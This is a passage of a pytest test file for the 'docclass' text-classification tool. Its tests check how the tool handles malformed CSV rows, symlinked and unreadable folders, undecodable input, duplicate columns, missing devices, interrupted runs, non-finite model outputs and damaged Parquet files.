    "an error row each (naming the line, and the field counts); the lines a bad row swallowed "
    "read again one by one, so no row is swallowed, cut or renumbered (a trailing comma is no "
    "error)",
)
def test_a_malformed_csv_row_costs_that_row_only(tmp_path, monkeypatch):
    table = tmp_path / "rows.csv"
    table.write_text(
        "id,text\n"
        "a1,Shares rose after profits beat forecasts.\n"
        'a2,"The new film\nopened to strong reviews."\n'  # a quoted line break: one row
        'a3,"The striker scored twice\n'  # a quote that closes two lines on, amiss
        "a4,Election results were announced today.\n"
        'a5,"closes"x\n'
        "a6,Chip makers, who reported record sales, rose\n"  # unquoted commas
        "a7,A trailing comma cuts nothing,\n"
        "\n"  # a blank line: no row in a file of two columns
        'a8,"never closed\n'
        "a9,The last row.\n",
        newline="",
    )
    rows = list(read_inputs([str(table)]))
    assert [r.id.removeprefix(f"{table}:") for r in rows] == [
        "a1", "a2", "3", "a4", "5", "6", "a7", "8", "a9"
    ]  # fmt: skip
    assert rows[1].text == "The new film\nopened to strong reviews."
    assert rows[6].text == "A trailing comma cuts nothing"
    errors = [r.error for r in rows if r.error]
    assert ["starts on line 5:" in errors[0], "starts on line 7:" in errors[1]] == [True, True]
    assert "line 8 has 4 fields where the header has 2" in errors[2]
    assert "starts on line 11: unexpected end of data" in errors[3] and len(errors) == 4
    # Rows inside a bad row's lines, a bad row among them, rows after: each its own row.
    zone = tmp_path / "zone.csv"
    zone.write_text(
        'id,text\nz1,"opens\nz2,in\nz3,"x"y\nz4,after\nz5,"ends",x\nz6,last\n', newline=""
    )
    rows = list(read_inputs([str(zone)]))
    assert [r.id.removeprefix(f"{zone}:") for r in rows] == ["1", "z2", "3", "z4", "5", "z6"]
    # A header's trailing comma names no column: a row may leave it empty, not fill it (the
    # field could be the rest of a text cut at an unquoted comma).
    unnamed = tmp_path / "unnamed.csv"
    unnamed.write_text("id,text,\nd1,Shares rose\nd2,Goal,\nd3,hello, world\n", newline="")
    rows = list(read_inputs([str(unnamed)]))
    assert [(r.id.removeprefix(f"{unnamed}:"), r.text) for r in rows] == [
        ("d1", "Shares rose"), ("d2", "Goal"), ("3", None)
    ]  # fmt: skip
    counted = tmp_path / "counted.csv"  # a row of many lines with the wrong field count
    counted.write_text('id,text\nw1,"a\nw2,b\nw3,c",x\nw4,d\n', newline="")
    rows = list(read_inputs([str(counted)]))
    assert [r.id.removeprefix(f"{counted}:") for r in rows] == ["1", "w2", "3", "w4"]
    # A quote left open on every line: each line parsed at most twice, every row kept.
    many = tmp_path / "many.csv"
    many.write_text("id,text\n" + "".join(f'q{i}","\n' for i in range(3000)))
    parsed, real_reader = [], csv.reader

    def counting(lines):
        for line in lines:
            parsed.append(line)
            yield line

    monkeypatch.setattr(csv, "reader", lambda lines, **k: real_reader(counting(lines), **k))
    assert len(list(read_inputs([str(many)]))) == 3000
    assert len(parsed) <= 2 * 3001
    # A blank line in a one-column file is an empty cell: its own (empty) row, ids unshifted.
    single = tmp_path / "single.csv"
    single.write_bytes(b"text\r\nShares rose\r\n\r\nElection results\r\n\r\n\r\n")  # end: no rows
    rows = list(read_inputs([str(single)]))
    assert [(r.id.rsplit(":", 1)[1], r.text) for r in rows] == [
        ("1", "Shares rose"), ("2", ""), ("3", "Election results")
    ]  # fmt: skip


@pytest.mark.fault(
    "classify: a folder input holding a linked folder (and a link back to a folder above)",
    "the linked folder's files are read, as a `**` glob reads them; a folder reached twice is "
    "read once",
)
def test_a_linked_folder_inside_an_input_folder_is_read(tmp_path):
    docs = tmp_path / "docs"
    (docs / "local").mkdir(parents=True)
    (tmp_path / "shared").mkdir()
    (docs / "local" / "a.txt").write_text("Shares rose.")
    (tmp_path / "shared" / "b.txt").write_text("The striker scored.")
    (docs / "2024").symlink_to(tmp_path / "shared")
    (docs / "local" / "up").symlink_to(docs)  # a loop
    (docs / "a-link").symlink_to(docs / "local")  # listed before the real folder it names
    (docs / "copy").symlink_to(tmp_path / "shared")  # a second way to a folder read already
    (docs / "gone.txt").symlink_to(tmp_path / "nothing")
    folder = [(r.id, r.error) for r in read_inputs([str(docs)])]
    assert folder == [
        (str(docs / "2024" / "b.txt"), None), (str(docs / "gone.txt"), "a link to nothing"),
        (str(docs / "local" / "a.txt"), None),
    ]  # fmt: skip
    # An output inside a linked folder would be read back next time: refused like any input's,
    # in a folder still to be made too.
    for out in (tmp_path / "shared" / "labels.csv", tmp_path / "shared" / "new" / "labels.csv"):
        with pytest.raises(ConfigError, match="inside the input"):
            check_out_is_not_an_input(str(out), [str(docs)])
    # Inputs that are no folder (a link to nothing, a link loop) are no error for the check,
    # and a pattern's link to nothing gets one row, not one per way it is reached (a folder
    # without links back up: Python's ** follows them round).
    (docs / "loop").symlink_to(docs / "loop")
    check_out_is_not_an_input(
        str(tmp_path / "labels.csv"), [str(docs / "gone.txt"), str(docs / "*")]
    )
    flat = tmp_path / "flat"
    flat.mkdir()
    (flat / "gone.txt").symlink_to(tmp_path / "nothing")
    (flat / "x*").symlink_to(tmp_path / "nothing")  # a name that reads as a pattern
    (flat / "xa").write_text("A document.")
    rows = [(r.id, r.error) for r in read_inputs([str(flat / "**")])]
    assert rows == [
        (str(flat / "gone.txt"), "a link to nothing"), (str(flat / "x*"), "a link to nothing"),
        (str(flat / "xa"), None),
    ]  # fmt: skip
    # A pattern's folders all count, however one reaches another: c/A's link to e/B does not
    # follow e/B's link back up to c, but c/B2 (= e/B) read as its own match does.
    (tmp_path / "c" / "A").mkdir(parents=True)
    (tmp_path / "c" / "sub").mkdir()
    (tmp_path / "e" / "B").mkdir(parents=True)
    (tmp_path / "c" / "A" / "L").symlink_to(tmp_path / "e" / "B")
    (tmp_path / "c" / "B2").symlink_to(tmp_path / "e" / "B")
    (tmp_path / "e" / "B" / "M").symlink_to(tmp_path / "c")
    with pytest.raises(ConfigError, match="inside the input"):
        check_out_is_not_an_input(str(tmp_path / "c/sub/labels.csv"), [str(tmp_path / "c/[AB]*")])


@pytest.mark.fault(
    "classify: a table's id column stored as bytes (Parquet binary) or as whole-number floats "
    "(a pandas integer column with gaps)",
    "the id as its text (`doc-17`, `101`), not Python's spelling (`b'doc-17'`, `101.0`)",
)
def test_table_ids_keep_their_text(tmp_path):
    import pyarrow as pa
    import pyarrow.parquet as pq

    table = tmp_path / "ids.parquet"
    ids = pa.array([b"doc-17", b"doc-18"], pa.binary())
    pq.write_table(pa.table({"id": ids, "text": ["Shares rose.", "Goal!"]}), table)
    floats = tmp_path / "floats.parquet"
    floats_ids = [101.0, None, 2.5, 2.0**60, float("nan")]  # NaN: pandas' missing id
    pq.write_table(pa.table({"id": floats_ids, "text": ["a"] * 5}), floats)
    json_nan = tmp_path / "nan.jsonl"
    json_nan.write_text('{"id": NaN, "text": "a"}\n{"id": 7, "text": "b"}\n')
    got = [r.id for r in read_inputs([str(table), str(floats), str(json_nan)])]
    assert got == [
        "doc-17", "doc-18", "101", f"{floats}:2", "2.5", str(2.0**60), f"{floats}:5",
        f"{json_nan}:1", "7",
    ]  # fmt: skip
    escaped = tmp_path / "escaped.jsonl"
    escaped.write_text('{"id": "x\\ud800y", "text": "ok"}\n')  # one U+FFFD for one escape
    assert [(r.id, bool(r.warning)) for r in read_inputs([str(escaped)])] == [("x\ufffdy", True)]


@pytest.mark.fault(
    "classify: standard input with bytes that are not UTF-8, a JSON Lines text or id holding a "
    'lone surrogate escape ("\\ud800")',
    "standard input decoded as a file is (Windows-1252 with a `warning`), escapes become U+FFFD "
    "with a `warning`; the run goes on (the tokenizer or the writer refused them, and the whole "
    "run ended with a traceback)",
)
def test_undecodable_standard_input_and_lone_surrogates_get_a_warning_not_a_crash(
    monkeypatch, capsys, ckpt, tmp_path
):
    rows_file = tmp_path / "rows.jsonl"
    rows_file.write_text('{"body": "Shares \\ud800 rose"}\n{"id": "J\\udc80", "body": "Goal"}\n')
    stdin = io.TextIOWrapper(io.BytesIO(b"Caf\xe9 prices rose.\nThe match ended.\n"))
    monkeypatch.setattr("sys.stdin", stdin)
    main(["classify", "--ckpt", str(ckpt), "--text_column", "body", "-", str(rows_file)])
    rows = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [r["id"].rsplit("/", 1)[-1] for r in rows] == [
        "stdin:1", "stdin:2", "rows.jsonl:1", "J\ufffd"
    ]  # fmt: skip
    assert all(r["label"] and not r.get("error") for r in rows)
    assert [bool(r.get("warning")) for r in rows] == [True, False, True, True]

    # A UTF-16 stream is read by its mark; later lines never are ("ÿþ" is Windows-1252 there).
    def piped(raw):
        stream = io.TextIOWrapper(io.BufferedReader(io.BytesIO(raw)))
        return [(d.text, d.error) for d in read_inputs(["-"], stdin=stream)]

    assert piped("hé\r\nbye\n".encode("utf-16")) == [("hé", None), ("bye", None)]
    assert piped("one\rstill one\ntwo\n".encode("utf-16")) == [  # lines end at "\n" only
        ("one\rstill one", None), ("two", None)
    ]  # fmt: skip
    stream = io.TextIOWrapper(io.BufferedReader(io.BytesIO("a\n".encode("utf-16"))))
    assert [d.text for d in read_inputs(["-", "-"], stdin=stream)] == ["a"]
    assert not stream.closed  # read by its mark, standard input stays open for what follows
    assert piped(b"ok\n\xff\xfexy\nz\x00z\n") == [
        ("ok", None), ("ÿþxy", None), (None, "binary (NUL bytes): not text")
    ]  # fmt: skip
    # Standard input is decoded as a file is: a Latin-1 pipe's "Café", a mark, CRLF.
    piped = io.TextIOWrapper(io.BytesIO(b"\xef\xbb\xbfCaf\xe9 prices\r\nok\n"))
    read = [(d.text, d.warning) for d in read_inputs(["-"], stdin=piped)]
    assert read == [("Café prices", NOT_UTF8), ("ok", None)]
    assert [d.text for d in read_inputs(["-"], stdin=io.StringIO("\ufeffa\nb\n"))] == ["a", "b"]
    # A UTF-16 code unit that decodes to nothing (a lone high surrogate) is replaced, and said.
    raw = "\ufeffhello\n".encode("utf-16-le") + b"\x00\xd8" + "after\n".encode("utf-16-le")
    stream = io.TextIOWrapper(io.BufferedReader(io.BytesIO(raw)))
    read = [(d.text, d.warning) for d in read_inputs(["-"], stdin=stream)]
    assert read == [("hello", None), ("\ufffdafter", ROW_BAD_BYTES)]


def test_an_output_named_for_another_format_is_refused_before_reading(tmp_path):
    for name, fix in (
        ("labels.parquet", "jsonl$"),
        ("labels.JSONL.GZ", "compress it once written$"),
    ):
        with pytest.raises(ConfigError, match=rf"--out .*{name}: classify writes plain CSV.*{fix}"):
            docclass.inference.classify.run_classify("missing.ckpt", ["-"], str(tmp_path / name))
    assert not list(tmp_path.iterdir())


@pytest.mark.fault(
    "classify: a table whose header names its text or id column twice (CSV, Parquet), or a JSON "
    "Lines row repeating its text or id key",
    "an error row naming the column (and, in a header, where it repeats); a row read as a dict "
    "kept the last of them silently",
)
def test_a_text_or_id_column_named_twice_is_refused_by_name(tmp_path):
    import pyarrow as pa
    import pyarrow.parquet as pq

    csv_file = tmp_path / "twice.csv"
    csv_file.write_text("text,id,text\nSummary,1,The whole article.\n")
    parquet = tmp_path / "twice.parquet"
    columns = [pa.array(["1"]), pa.array(["Goal!"]), pa.array(["2"])]
    pq.write_table(pa.Table.from_arrays(columns, names=["id", "text", "id"]), parquet)
    rows = read_inputs([str(csv_file), str(parquet)])
    assert [(r.id, r.text, r.error) for r in rows] == [
        (str(csv_file), None, "cannot read as a table: its header names the column 'text' 2 "
         "times (columns 1, 3); rename all but the one that holds the text"),
        (str(parquet), None, "cannot read as a table: its header names the column 'id' 2 times "
         "(columns 1, 3); rename all but the one that holds the id"),
    ]  # fmt: skip
    lines = tmp_path / "twice.jsonl"
    lines.write_text(
        '{"text": "a", "text": "b"}\n{"id": 1, "text": "c", "id": 2}\n'
        '{"text": "kept", "meta": {"text": 1, "text": 2}, "tag": 1, "tag": 2}\n'
    )
    assert [(r.id, r.text, r.error) for r in read_inputs([str(lines)])] == [
        (f"{lines}:1", None, "the key 'text' appears more than once; keep one"),
        (f"{lines}:2", None, "the key 'id' appears more than once; keep one"),
        (f"{lines}:3", "kept", None),
    ]


@pytest.mark.fault(
    "classify: a folder input with a subfolder that cannot be listed, or a link above the input",
    "an error row naming the subfolder (it vanished silently); the link is not followed out of "
    "the input",
)
def test_a_folder_that_cannot_be_listed_or_links_above_the_input_is_said(tmp_path, monkeypatch):
    import os

    docs = tmp_path / "docs"
    (docs / "locked").mkdir(parents=True)
    (docs / "a.txt").write_text("Shares rose.")
    (tmp_path / "outside.txt").write_text("Not an input.")
    (docs / "up").symlink_to(tmp_path)  # above the input: would read tmp_path's files
    real_scandir = os.scandir

    def denied(path="."):
        if os.fspath(path).endswith("locked"):  # root reads any folder: chmod cannot stand in
            raise PermissionError(13, "Permission denied", os.fspath(path))
        return real_scandir(path)

    monkeypatch.setattr(os, "scandir", denied)
    rows = list(read_inputs([str(docs)]))
    assert [(r.id, r.error) for r in rows] == [
        (str(docs / "a.txt"), None), (str(docs / "locked"), "cannot list: Permission denied")
    ]  # fmt: skip
    monkeypatch.undo()
    # Listed but not to be looked into (a folder readable, not searchable): a row, not a crash.
    (docs / "locked" / "sub").mkdir()
    real_stat = os.stat

    def unsearchable(path, *args, **kwargs):
        if os.fspath(path).endswith("sub"):
            raise PermissionError(13, "Permission denied", os.fspath(path))
        return real_stat(path, *args, **kwargs)

    monkeypatch.setattr(os, "stat", unsearchable)
    rows = [(r.id, r.error) for r in read_inputs([str(docs)])]
    assert rows[-1] == (str(docs / "locked" / "sub"), "cannot list: Permission denied")
    # The same folder met as a pattern's match: a row too, not a traceback.
    rows = [(r.id, r.error) for r in read_inputs([str(docs / "locked" / "*")])]
    assert rows == [(str(docs / "locked" / "sub"), "cannot read: Permission denied")]


@pytest.mark.fault(
    "`--device cuda` on a machine without one, or a misspelt device (`gpu`), for classify, "
    "report, faithfulness, calibrate or audit",
    "one line naming the device and what to use, before anything loads (an audit crashed "
    "after training its first fold)",
)
def test_a_device_this_machine_lacks_is_one_line_before_anything_loads(monkeypatch, tmp_path):
    from docclass.inference.classifier import resolve_device

    monkeypatch.setattr(torch.cuda, "is_available", lambda: False)
    for device, message in (("cuda", "no CUDA device is visible; use --device cpu"),
                            ("cuda:1", "no CUDA device is visible"),
                            ("gpu", "use auto, cpu, cuda or cuda:N"),
                            ("mps", "use auto, cpu, cuda or cuda:N")):  # fmt: skip
        with pytest.raises(ConfigError, match=message):
            resolve_device(device)
    assert resolve_device("cpu") == resolve_device("auto") == torch.device("cpu")
    given = ["--ckpt", str(tmp_path / "no.ckpt"), "--data", "x.yaml", "--device", "cuda"]
    for command, out in (("report", True), ("faithfulness", True), ("calibrate", False)):
        # Neither the checkpoint nor the config exists: the device is refused first.
        with pytest.raises(ConfigError, match="--device cuda: no CUDA"):
            run_command(command, given + (["--out", str(tmp_path / command)] if out else []))
    with pytest.raises(ConfigError, match="--device cuda: no CUDA"):  # before the checkpoint
        run_command("classify", ["--ckpt", str(tmp_path / "no.ckpt"), "--device", "cuda", "-"])


@pytest.mark.fault(
    "classify or export `--out` that cannot be written (an existing folder for classify, a "
    "path under a file)",
    "one line naming `--out` and the reason, exit status 2 (a traceback named the hidden "
    "partial file)",
)
def test_an_output_that_cannot_be_written_is_one_line(capsys, tmp_path, ckpt):
    document = tmp_path / "a.txt"
    document.write_text("Shares rose after profits.")
    (tmp_path / "a-file").write_text("")
    for command, out in (("classify", tmp_path), ("classify", tmp_path / "a-file" / "x.csv"),
                         ("export", tmp_path / "a-file" / "model")):  # fmt: skip
        inputs = [str(document)] if command == "classify" else []
        with pytest.raises(SystemExit) as exit_info:
            main([command, "--ckpt", str(ckpt), "--out", str(out), *inputs])
        assert exit_info.value.code == 2
        line = capsys.readouterr().err.strip().splitlines()[-1]
        assert line.startswith("docclass: error:") and str(out) in line, line
        assert "cannot be" in line, line


@pytest.mark.fault(
    "Python API: `predict` given a value that is not text (None, a table's NaN, bytes) or a "
    "string with lone surrogates",
    "that text's result is an error row naming why, the others are classified (the "
    "tokenizer's TypeError named neither the document nor the fix)",
)
def test_predict_gives_a_text_that_is_not_text_its_own_error_row(ckpt):
    classifier = docclass.DocClassifier.load(ckpt, device="cpu")
    texts = ["Shares rose after profits.", None, math.nan, b"bytes", "caf\ud800 x", "Film wins."]
    results = classifier.predict(texts)
    assert [r["label"] is not None for r in results] == [True, False, False, False, False, True]
    assert [r["score"] is None for r in results[1:5]] == [True] * 4
    for result, kind in zip(results[1:4], ("NoneType", "float", "bytes"), strict=True):
        assert result["error"].startswith(f"not text ({kind})")
    assert "lone surrogates" in results[4]["error"]
    assert results[0] == classifier.predict(texts[:1])[0]  # the others classified as alone
    [alone] = classifier.predict(b"bytes given alone")  # one document, not a row a byte
    assert alone["error"].startswith("not text (bytes)")
    with pytest.raises(ConfigError, match="not text"):
        classifier.explain(None)


@pytest.mark.fault(
    "`docclass classify ... | head`: the reader of standard output leaves early",
    "classify stops quietly with status 1, no traceback",
)
def test_a_reader_that_leaves_early_ends_classify_quietly(ckpt, tmp_path):
    import subprocess
    import sys

    table = tmp_path / "many.csv"  # enough rows to fill the pipe after its reader left
    table.write_text("text\n" + "Shares rose after profits at the bank.\n" * 3000)
    command = [sys.executable, "-m", "docclass.cli", "classify", "--ckpt", str(ckpt), str(table)]
    process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    first = process.stdout.readline()
    process.stdout.close()
    error = process.stderr.read().decode()
    assert process.wait(timeout=120) == 1
    assert json.loads(first)["label"] and "Traceback" not in error, error


@pytest.mark.fault(
    "Ctrl+C during `docclass classify --out`",
    "one line, exit 130, no traceback; neither the output nor its partial file is left",
)
def test_ctrl_c_ends_classify_in_one_line_and_leaves_no_partial_output(ckpt, tmp_path):
    import signal
    import subprocess
    import sys
    import time

    table = tmp_path / "many.csv"
    table.write_text("text\n" + "Shares rose after profits at the bank.\n" * 20000)
    out = tmp_path / "labels.csv"
    command = [sys.executable, "-m", "docclass.cli", "classify", "--ckpt", str(ckpt), str(table),
               "--out", str(out)]  # fmt: skip
    process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    partial = tmp_path / ".labels.csv.partial"
    deadline = time.monotonic() + 120
    while not (partial.is_file() and partial.stat().st_size) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert process.poll() is None, process.stderr.read().decode()
    process.send_signal(signal.SIGINT)
    error = process.stderr.read().decode()
    assert process.wait(timeout=120) == 130
    assert "Traceback" not in error and "interrupted (Ctrl+C)" in error.splitlines()[-1], error
    assert not out.exists() and not partial.exists()


def test_a_broken_pipe_that_is_not_standard_output_is_not_hidden(monkeypatch):
    # Only the reader of standard output leaving is a quiet end; a worker's or a socket's
    # broken pipe is a failure, shown as one.
    import docclass.cli as cli

    def broken(*args):
        raise BrokenPipeError(32, "Broken pipe")

    monkeypatch.setattr(cli, "run_command", broken)
    with pytest.raises(BrokenPipeError):
        main(["classify", "--ckpt", "x.ckpt", "-"])


@pytest.mark.fault(
    "classify/predict/serve with a model whose outputs are not finite (weights that diverged)",
    "an error row per document naming the cause; never the first class with a NaN score",
)
def test_a_model_whose_output_is_not_finite_gives_error_rows_not_its_first_class():
    """NaN's argmax is the first class: a diverged model labelled every document with it."""
    from helpers import tiny_classifier

    from docclass.inference.classifier import NOT_FINITE

    trained = tiny_classifier(n_layers=1)
    with torch.no_grad():
        for parameter in trained.model.parameters():
            parameter.fill_(float("nan"))
    results = docclass.DocClassifier(trained, "cpu").predict(["Shares rose.", "Film wins.", ""])
    assert [r["label"] for r in results] == [None, None, None]
    assert [r["error"] for r in results[:2]] == [NOT_FINITE, NOT_FINITE]


@pytest.mark.fault(
    "a Parquet file one of whose row groups is damaged (its footer intact)",
    "one error row naming that group's rows; every other row classified, and the same rows "
    "from the Ray engine's shards",
)
def test_a_damaged_parquet_row_group_costs_its_rows_alone(tmp_path):
    import pyarrow as pa
    import pyarrow.parquet as pq

    from docclass.inference.classify import parquet_rows
    from docclass.inference.ray_classify import _parquet_shards

    path = tmp_path / "c.parquet"
    texts = [f"text number {i} " * 5 for i in range(30)]
    pq.write_table(pa.table({"id": [f"r{i}" for i in range(30)], "text": texts}), path,
                   row_group_size=10, compression="snappy")  # fmt: skip
    column = pq.ParquetFile(path).metadata.row_group(1).column(1)
    damaged = bytearray(path.read_bytes())
    middle = column.data_page_offset + column.total_compressed_size // 2
    damaged[middle : middle + 20] = bytes(b ^ 0xFF for b in damaged[middle : middle + 20])
    path.write_bytes(bytes(damaged))
    rows = [(row.id, row.error is None) for row in parquet_rows(path, "text")]
    assert rows == [
        *[(f"r{i}", True) for i in range(10)],
        (f"{path}:11-20", False),
        *[(f"r{i}", True) for i in range(20, 30)],
    ]
    shards = _parquet_shards(path, 10, "text")
    sharded = [
        (row.id, row.error is None)
        for shard in shards
        for row in parquet_rows(path, "text", shard["row_groups"], shard["first_row"])
    ]
    assert sharded == rows


@pytest.mark.fault(
    "classify: a pipe (or socket, device) inside an input folder or matched by a pattern",
    "an error row naming it; never left out in silence, never a run blocked reading it",
)
def test_a_pipe_inside_an_input_folder_gets_an_error_row(tmp_path):
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "a.txt").write_text("Shares rose.")
    os.mkfifo(docs / "b.txt")
    # A writer holds the pipe open, so code that reads it blocks instead of failing: an alarm
    # ends such a read as a failure.
    writer = os.open(docs / "b.txt", os.O_RDWR | os.O_NONBLOCK)
    previous = signal.signal(signal.SIGALRM, lambda *_: pytest.fail("the pipe was read"))
    signal.alarm(20)
    try:
        read = [[(r.id, r.error) for r in read_inputs(i)] for i in ([str(docs)], [str(docs / "*")])]
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)
        os.close(writer)
    for rows in read:
        assert rows == [
            (str(docs / "a.txt"), None),
            (str(docs / "b.txt"), "not a regular file (a pipe, socket or device); name it on its "
             "own to read it"),
        ]  # fmt: skip
